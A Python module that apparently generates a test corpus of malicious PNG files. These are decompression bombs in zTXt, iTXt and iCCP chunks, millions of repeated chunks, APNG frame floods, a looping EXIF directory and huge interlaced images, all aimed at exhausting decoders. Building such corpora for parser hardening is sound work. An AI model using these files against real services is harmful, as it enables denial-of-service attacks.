"""PNG files that cost their reader more than their author."""
import struct
import zlib

from makers import maker


def deflated(total, level=9, byte=b"\0"):
    """`total` equal bytes, compressed."""
    packer, block, parts = zlib.compressobj(level), byte * (1 << 20), []
    for _ in range(total >> 20):
        parts.append(packer.compress(block))
    parts.append(packer.compress(block[:total & (1 << 20) - 1]))
    return b"".join(parts) + packer.flush()


def chunk(name, content=b""):
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(width, height, depth=8, color=2, interlaced=0, before=b"", after=b"", pixels=None):
    """A black PNG with chunks before and after its pixels. Colour 0 grey, 2 RGB, 6 RGBA."""
    bits = depth * {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[color]
    if pixels is None:
        passes = [(0, 8, 0, 8), (0, 8, 4, 8), (4, 8, 0, 4), (0, 4, 2, 4), (2, 4, 0, 2), (0, 2, 1, 2), (1, 2, 0, 1)]
        sizes = [(width, height)] if not interlaced else [
            (len(range(left, width, right)), len(range(top, height, down))) for top, down, left, right in passes]
        pixels = deflated(sum(rows * (1 + (columns * bits + 7) // 8) for columns, rows in sizes if columns and rows))
    header = struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, interlaced)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + before + chunk(b"IDAT", pixels) + after + chunk(b"IEND")


MEGABYTES_8 = 8_000_000 - 64  # libpng inflates at most 8,000,000 bytes a chunk


@maker("png-ztxt-1200-times-8-megabytes.png")
def _():
    text = chunk(b"zTXt", b"note\0\0" + deflated(MEGABYTES_8))
    return png(16, 16, before=text * 1200)


@maker("png-itxt-xmp-1200-times-8-megabytes.png")
def _():
    text = chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + deflated(MEGABYTES_8, byte=b" "))
    return png(16, 16, before=text * 1200)


@maker("png-ztxt-behind-the-pixels.png")
def _():
    return png(16, 16, after=chunk(b"zTXt", b"note\0\0" + deflated(MEGABYTES_8)) * 1200)


@maker("png-iccp-1200-times-8-megabytes.png")
def _():
    profile = struct.pack(">I", MEGABYTES_8) + b"\0" * 32 + b"acsp"
    packer = zlib.compressobj(9)
    content = packer.compress(profile) + packer.compress(b"\0" * (MEGABYTES_8 - len(profile))) + packer.flush()
    return png(16, 16, before=chunk(b"iCCP", b"icc\0\0" + content) * 1200)


@maker("png-empty-idat-5-million.png")
def _():
    return png(16, 16).replace(chunk(b"IEND"), b"") + chunk(b"IDAT") * 5_000_000 + chunk(b"IEND")


@maker("png-empty-idat-first-5-million.png")
def _():
    return png(16, 16, before=chunk(b"IDAT") * 5_000_000)


@maker("png-unknown-chunks-5-million.png")
def _():
    return png(16, 16, before=chunk(b"teSt") * 5_000_000)


@maker("png-transparency-4-million-times.png")
def _():
    return png(16, 16, before=chunk(b"tRNS", b"\0" * 6) * 3_500_000)


@maker("png-text-4-million.png")
def _():
    return png(16, 16, before=chunk(b"tEXt", b"k\0v") * 4_000_000)


@maker("png-apng-frames-1-million.png")
def _():
    frame = chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 16, 16, 0, 0, 1, 1, 0, 0)) + chunk(b"fdAT", b"\0" * 4)
    return png(16, 16, before=chunk(b"acTL", struct.pack(">II", 1_000_000, 0)), after=frame * 1_000_000)


def looping_exif(count=60000):
    """Entries that all say that their directory continues where it begins."""
    entry = struct.pack("<HHII", 0x8769, 4, 1, 8)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", count) + entry * count + b"\x08\0\0\0"


@maker("png-exif-pointing-at-itself.png")
def _():
    return png(16, 16, before=chunk(b"eXIf", looping_exif()))


@maker("png-interlaced-100-megapixels-rgba16.png")
def _():
    return png(10000, 10000, 16, 6, 1)


@maker("png-interlaced-100-megapixels-rgb8.png")
def _():
    return png(10000, 10000, 8, 2, 1)


@maker("png-interlaced-100-megapixels-1-bit.png")
def _():
    return png(10000, 10000, 1, 0, 1)


@maker("png-100-megapixels-rgba16.png")
def _():
    return png(10000, 10000, 16, 6)


@maker("png-1-wide-100000-high-interlaced.png")
def _():
    return png(1, 100000, 16, 6, 1)
